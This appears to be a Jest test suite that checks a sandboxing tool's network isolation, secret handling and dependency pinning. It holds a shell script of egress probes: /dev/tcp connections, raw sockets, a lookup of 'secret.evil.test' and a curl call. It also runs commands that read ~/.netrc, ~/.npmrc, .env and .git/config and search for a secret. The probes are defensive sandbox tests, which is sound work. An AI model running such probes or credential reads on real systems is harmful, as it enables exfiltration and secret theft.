// The network, and what must stay secret.
import { createServer } from 'node:net';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import {
  canary,
  FAKE_ADDRESSES,
  fakeInternet,
  findCanaries,
  onTheHost,
  positiveControl,
  searchProcesses,
} from '../../src/index.ts';
import { attack } from './attack.ts';
import { commandLine } from './command-line.ts';

/** Every way out that needs no privilege, and some that do, each cut off after a second. One line for what got through. */
const WAYS_OUT = `
try() { name=$1; shift; if timeout 1 "$@" >/tmp/said 2>/dev/null </dev/null; then echo "through: $name"; fi; }
for a in 1.1.1.1 8.8.8.8 169.254.169.254 10.99.0.1; do
for p in 53 80 443 8080; do try tcp-$a-$p bash -c "exec 3<>/dev/tcp/$a/$p; head -c 1 <&3"; done
try udp-$a bash -c "echo x >/dev/udp/$a/53"
done
try tcp6 perl -MSocket=:all -e 'socket(my $s, AF_INET6, SOCK_STREAM, 0) or die; connect($s, pack_sockaddr_in6(443, inet_pton(AF_INET6, "2606:4700:4700::1111"))) or die'
try udp6 perl -MSocket=:all -e 'socket(my $s, AF_INET6, SOCK_DGRAM, 0) or die; send($s, "x", 0, pack_sockaddr_in6(53, inet_pton(AF_INET6, "2606:4700:4700::1111"))) or die'
try mdns perl -MSocket=:all -e 'socket(my $s, AF_INET, SOCK_DGRAM, 0) or die; send($s, "x", 0, pack_sockaddr_in(5353, inet_aton("224.0.0.251"))) or die'
try broadcast perl -MSocket=:all -e 'socket(my $s, AF_INET, SOCK_DGRAM, 0) or die; setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1); send($s, "x", 0, pack_sockaddr_in(67, inet_aton("255.255.255.255"))) or die'
try ntp perl -MSocket=:all -e 'socket(my $s, AF_INET, SOCK_DGRAM, 0) or die; send($s, chr(27) . chr(0) x 47, 0, pack_sockaddr_in(123, inet_aton("1.1.1.1"))) or die'
try icmp perl -MSocket=:all -e 'socket(my $s, AF_INET, SOCK_RAW, 1) or die; send($s, pack("CCnnn", 8, 0, 63487, 0, 0), 0, pack_sockaddr_in(0, inet_aton("1.1.1.1"))) or die'
try ping perl -MSocket=:all -e 'socket(my $s, AF_INET, SOCK_DGRAM, 1) or die; send($s, pack("CCnnn", 8, 0, 63487, 0, 0), 0, pack_sockaddr_in(0, inet_aton("1.1.1.1"))) or die'
try raw perl -MSocket=:all -e 'socket(my $s, AF_INET, SOCK_RAW, 255) or die; send($s, "x" x 40, 0, pack_sockaddr_in(0, inet_aton("1.1.1.1"))) or die'
try sctp perl -MSocket=:all -e 'socket(my $s, AF_INET, SOCK_STREAM, 132) or die; connect($s, pack_sockaddr_in(80, inet_aton("1.1.1.1"))) or die'
try udplite perl -MSocket=:all -e 'socket(my $s, AF_INET, SOCK_DGRAM, 136) or die; send($s, "x", 0, pack_sockaddr_in(53, inet_aton("1.1.1.1"))) or die'
try packet perl -MSocket=:all -e 'socket(my $s, 17, SOCK_RAW, 768) or die; send($s, "x" x 60, 0, pack("SnlSCCa8", 17, 3, 1, 1, 0, 6, "")) or die'
try name getent hosts secret.evil.test
try curl curl -m2 -s https://1.1.1.1
true`;

describe('network and secrets', () => {
  attack('A79: a sandbox reaches neither the network nor a service of this machine', async (fixture) => {
    const heard: string[] = [];
    const server = createServer((socket) => {
      heard.push('connection');
      socket.end('secret');
    }).listen(0, '0.0.0.0');
    await once(server, 'listening');
    const { port } = server.address() as { readonly port: number };
    try {
      const connect = `exec 3<>/dev/tcp/127.0.0.1/${port}; head -c 6 <&3`;
      positiveControl('a service of this machine', await said(['bash', '-c', connect]), (text) => text === 'secret');
      heard.length = 0;
      const sandbox = await fixture.open().create({ name: 'a' });
      const started = performance.now();
      const { stdout } = await fixture.run(sandbox, `bash -c '${connect}'; ${WAYS_OUT}`, { timeoutMs: 60_000 });
      // The pieces that "reach" loopback alone are what the sandbox has.
      expect(stdout).toBe('');
      expect(performance.now() - started).toBeLessThan(45_000);
      expect(heard).toEqual([]);
      const facts = (
        await fixture.run(
          sandbox,
          'tail -n +3 /proc/net/dev | cut -d: -f1; tail -n +2 /proc/net/route; cat /etc/resolv.conf; env | grep -i proxy',
        )
      ).stdout;
      expect(
        facts
          .split('\n')
          .map((line) => line.trim())
          .filter(
            (line) => line !== '' && !/^(tunl0|sit0|ip6tnl0|gre0|gretap0|erspan0|ip_vti0|ip6_vti0|ip6gre0)$/.test(line),
          ),
      ).toEqual(['lo']);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  if (process.getuid?.() === 0) {
    attack('A79: on a machine with an open network, not one frame of a sandbox gets out', async (fixture) => {
      await using internet = await fakeInternet();
      const control = onTheHost(internet.enter(['sh', '-c', WAYS_OUT]));
      const reached = positiveControl('every way out', control.stdout, (text) =>
        ['tcp-1.1.1.1-443', 'udp-8.8.8.8', 'udp6', 'icmp', 'packet', 'mdns'].every((way) =>
          text.includes(`through: ${way}\n`),
        ),
      );
      expect(reached).not.toContain('through: sctp');
      const before = await internet.heard();
      for (const address of FAKE_ADDRESSES.filter((one) => !one.includes(':')))
        expect(before.join('\n')).toContain(address);
      // All of Litterbox is on that machine: what makes sandboxes, and what runs in them.
      const prefix = internet.enter(['env']);
      expect(commandLine(fixture, ['create', 'a'], { prefix }).code).toBe(0);
      const ran = commandLine(fixture, ['run', 'a', '--', 'sh', '-c', WAYS_OUT], { prefix });
      expect({ code: ran.code, stdout: ran.stdout }).toEqual({ code: 0, stdout: '' });
      for (const args of [
        ['diff', 'a'],
        ['log', 'a'],
        ['merge', 'a', '--dry-run'],
        ['doctor'],
        ['delete', 'a', '--force'],
      ])
        commandLine(fixture, args, { prefix });
      expect((await internet.heard()).slice(before.length)).toEqual([]);
    });
  }

  attack('A89: no secret of the caller is in an argument or an environment while a command runs', async (fixture) => {
    const sandbox = await fixture.open().create({ name: 'a' });
    const given = canary('variable-of-a-command');
    const seen: string[] = [];
    const { stdout } = await sandbox.run('echo started; sleep 0.3; env; cat /proc/self/environ', {
      env: { GIVEN: given.secret },
      onOutput: () => seen.push(...searchProcesses([...fixture.canaries, given])),
    });
    fixture.hear('what the command said', stdout);
    positiveControl('the variable', stdout, (text) => findCanaries([given], 'it', text).length === 1);
    // The command it was given to has it, in its environment alone.
    expect(
      seen.filter(
        (sentence) => !/variable-of-a-command is in environ of process \d+ \((bash|sh|sleep|env|cat)\)/.test(sentence),
      ),
    ).toEqual([]);
    expect(
      commandLine(fixture, ['run', 'a', 'env; cat /proc/self/environ'], {
        env: { TOKEN: fixture.canaries[0]?.secret ?? '' },
      }).code,
    ).toBe(0);
    const files = JSON.stringify([await fixture.open().audit(), await fixture.open().events(0), await sandbox.log()]);
    expect(findCanaries([given], 'the log', files)).toEqual([]);
  });

  attack('A93: no error, trace or dump tells a secret', async (fixture) => {
    const token = fixture.canaries[2]?.secret.slice(-32) ?? '';
    positiveControl('the address of the remote', fixture.scratch.git('remote', '-v'), (text) => text.includes(token));
    const env = {
      LITTERBOX_LOG: 'trace',
      DEBUG: '*',
      GIT_TRACE: '2',
      GIT_CURL_VERBOSE: '1',
      NODE_DEBUG: 'child_process',
    };
    const sandbox = await fixture.open().create({ name: 'a' });
    await sandbox.files.write('src/a.txt', 'x\n');
    for (const args of [
      ['create', 'b', '--from', 'origin/none'],
      ['create', 'b', '--from', `https://user:x@localhost/x.git`],
      ['merge', 'a', '--', '--no-such'],
      ['run', 'a', 'cat /nowhere; exit 3'],
      ['doctor', '--json'],
      ['explain', 'a', '--json'],
      ['audit', '--json'],
      ['nonsense'],
    ]) {
      const { stdout, stderr } = commandLine(fixture, args, { env });
      const own = `${stdout}${stderr}`.replace(/^(CHILD_PROCESS|\{).*$/gms, '');
      expect({ args, ownIncludes: own.includes(token) }).toEqual({ args, ownIncludes: false });
      expect({ args, stderrMatches: /^\s+at .*\.ts:\d+/m.test(stderr) }).toEqual({ args, stderrMatches: false });
    }
    // No core file of a process that held secrets of the sandbox, on either side.
    expect((await fixture.run(sandbox, 'ulimit -c; ulimit -Hc')).stdout).toBe('0\n0\n');
  });

  attack('A95: what was never committed, and no address of a remote, is inside', async (fixture) => {
    const secret = fixture.canaries[2]?.secret ?? '';
    positiveControl(
      'the work tree',
      readFileSync(`${fixture.scratch.repository}/.env`, 'utf8') +
        readFileSync(`${fixture.scratch.repository}/.git/config`, 'utf8'),
      (text) => text.includes(secret) && text.includes('remote'),
    );
    for (const workspaceGit of ['none', 'throwaway'] as const) {
      const sandbox = await fixture
        .open()
        .create({ name: `a ${workspaceGit}`, workspaceGit })
        .catch(() => undefined);
      if (!sandbox) continue;
      const { stdout } = await fixture.run(
        sandbox,
        `ls -la . ~ / /playground; git remote -v; git config -l; cat ~/.npmrc ~/.gitconfig ~/.netrc .env .git/config; grep -rIlf - . ~ /playground /tmp /etc /run /var /dev/shm 2>/dev/null`,
        { stdin: Buffer.from(secret.slice(-32)) },
      );
      expect(stdout).not.toMatch(/^(\.\/)?\.env|\.npmrc|origin|localhost\/x/m);
      expect(/\.git$/m.test(stdout)).toBe(workspaceGit === 'throwaway'); // its own, of one commit
    }
  });

  it('A99: the packages we install are pinned, whole, and run nothing but what is known', () => {
    const root = new URL('../../../../', import.meta.url);
    const read = (name: string) => JSON.parse(readFileSync(new URL(name, root), 'utf8'));
    const { packages } = read('package-lock.json') as {
      readonly packages: Readonly<
        Record<
          string,
          {
            version?: string;
            resolved?: string;
            integrity?: string;
            link?: boolean;
            inBundle?: boolean;
            hasInstallScript?: boolean;
            dev?: boolean;
          }
        >
      >;
    };
    const { allowScripts } = read('package.json') as { readonly allowScripts: Readonly<Record<string, boolean>> };
    const foreign = Object.entries(packages).filter(([path, { link }]) => path.includes('node_modules/') && !link);
    positiveControl('the lock file', foreign.length, (count) => count > 100);
    expect(
      foreign
        .filter(([, { integrity, inBundle }]) => !inBundle && integrity?.startsWith('sha512-') !== true)
        .map(([path]) => path),
    ).toEqual([]);
    expect(
      foreign
        .filter(([, { resolved, inBundle }]) => !inBundle && resolved?.startsWith('https://') === false)
        .map(([path]) => path),
    ).toEqual([]);
    const scripts = foreign
      .filter(([, { hasInstallScript }]) => hasInstallScript)
      .map(([path]) => path.replace(/^.*node_modules\//, ''));
    expect(scripts.filter((name) => !(name in allowScripts))).toEqual([]);
    // Those of the field that had holes may come in only mended.
    // Where more than one line is kept up, the first version of each that is mended.
    const least: Readonly<Record<string, readonly (readonly number[])[]>> = {
      'simple-git': [[3, 36]],
      'tar-fs': [
        [2, 1, 4],
        [3, 1, 1],
      ],
      tar: [[7, 5, 8]],
      '@modelcontextprotocol/sdk': [[1, 26]],
    };
    for (const [path, { version = '' }] of foreign) {
      const wanted = least[path.replace(/^.*node_modules\//, '')];
      if (!wanted) continue;
      const [major] = version.split('.').map(Number);
      const line = wanted.find(([one]) => one === major) ?? wanted.at(-1) ?? [];
      expect({ path, isAtLeast: isAtLeast(version, line) }).toEqual({ path, isAtLeast: true });
    }
    // What an embedder installs runs no script of anybody: clients that bring some are in files of ours.
    expect(
      foreign
        .filter(
          ([path, { hasInstallScript, dev }]) => hasInstallScript && !dev && path.split('node_modules/').length === 2,
        )
        .map(([path]) => path.replace('node_modules/', ''))
        .sort(),
    ).toEqual([]);
  });
});

function isAtLeast(version: string, wanted: readonly number[]): boolean {
  const numbers = version.split('.').map(Number);
  for (const [index, least] of wanted.entries()) if (numbers[index] !== least) return (numbers[index] ?? 0) > least;
  return true;
}

/** Runs while this program goes on answering. */
async function said([program, ...args]: readonly [string, ...string[]]): Promise<string> {
  const { spawn } = await import('node:child_process');
  const child = spawn(program, args, { stdio: ['ignore', 'pipe', 'inherit'] });
  let text = '';
  child.stdout.setEncoding('utf8').on('data', (more: string) => (text += more));
  await once(child, 'close');
  return text;
}
